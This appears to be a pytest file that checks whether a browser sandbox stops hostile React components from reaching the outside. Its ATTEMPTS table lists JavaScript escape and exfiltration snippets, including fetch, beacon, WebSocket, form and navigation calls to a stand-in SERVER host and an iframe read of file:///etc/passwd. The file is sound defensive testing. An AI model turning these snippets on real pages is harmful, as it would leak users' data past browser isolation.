"""Hostile components in the browser: nothing leaves it, and the next trial is as good as the first."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from clean_carry.verify.bench import Bench, Side
from clean_carry.verify.browser.seen import Gaze
from clean_carry.verify.browser.views import View
from clean_carry.verify.client import WorkerFailed
from clean_carry.verify.runtimes import RUNTIMES

# Each tries to reach SERVER, or a file; `got(x)` with whatever it could lay hands on.
ATTEMPTS = {
    "request": "fetch('SERVER/a');",
    "request of a frame": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('SERVER/b').then(() => got('root: reached'));",
    "request of the bench": "parent.fetch('SERVER/c').then(() => got('root: reached'));",
    "picture": "new Image().src = 'SERVER/d';",
    "stylesheet": "const s = document.createElement('style'); s.textContent = '@import url(SERVER/e); body { background: url(SERVER/f) }'; document.head.append(s);",
    "script": "const s = document.createElement('script'); s.src = 'SERVER/g'; document.body.append(s);",
    "navigation": "location.href = 'SERVER/h';",
    "navigation of the top": "top.location.href = 'SERVER/i';",
    "form": "const f = document.createElement('form'); f.action = 'SERVER/j'; f.method = 'post'; document.body.append(f); f.submit();",
    "window": "window.open('SERVER/k'); parent.open('SERVER/l');",
    "socket": "new parent.WebSocket('SERVER/m'.replace('http', 'ws'));",
    "beacon": "navigator.sendBeacon('SERVER/n', 'x');",
    "worker": "const w = new parent.Worker(URL.createObjectURL(new Blob(['fetch(\"SERVER/o\")']))); w.onmessage = got;",
    "hint": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'SERVER/p'; document.head.append(l); const d = l.cloneNode(); d.rel = 'preconnect'; document.head.append(d);",
    "file": "const f = document.createElement('iframe'); f.src = 'file:///etc/passwd'; f.onload = () => got(f.contentDocument ? f.contentDocument.body.textContent : ''); document.body.append(f);",
    "the host": "parent.__hand(JSON.stringify({ mouse: 'mousePressed', x: 1e9, y: 'x' })); got(typeof process === 'undefined' ? '' : 'root: process');",
}


class _Heard(BaseHTTPRequestHandler):
    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        """Note that somebody got through."""
        self.heard.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    made = HTTPServer(("127.0.0.1", 0), _Heard)
    threading.Thread(target=made.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{made.server_port}"
    made.shutdown()


@pytest.fixture(scope="module")
def looking() -> Iterator[Bench]:
    with Bench(gaze=Gaze()) as made:
        yield made


def side(body: str, folder: Path) -> Side:
    text = f"""
    import React from 'react';
    export default class Hostile extends React.Component {{
      componentDidMount() {{ const got = (x) => this.props.onGot(String(x)); {body} }}
      render() {{ return <b>here</b>; }}
    }}"""
    return Side(folder / "Hostile.jsx", text, RUNTIMES["react-18"])


REQUEST = {"inputs": {}, "functions": {"onGot": {}}, "steps": [{"pass": 1000}]}


@pytest.mark.parametrize("name", ATTEMPTS)
def test_nothing_leaves_the_browser(looking: Bench, server: str, tmp_path: Path, name: str) -> None:
    _Heard.heard.clear()
    hostile = looking.build(side(ATTEMPTS[name].replace("SERVER", server), tmp_path))
    plain = looking.build(side("", tmp_path))
    with looking.browser() as browser:
        try:
            answer = browser.trial(hostile, "", REQUEST, slot="old", view=View(400))
            calls = str([point["calls"] for point in answer["points"]])
            assert "root:" not in calls
        except WorkerFailed:
            pass  # a trial is lost, no more
        after = browser.trial(plain, "", REQUEST, slot="old", view=View(400))
    assert after["points"][0]["tree"][0][3] == ["here"]
    assert _Heard.heard == []
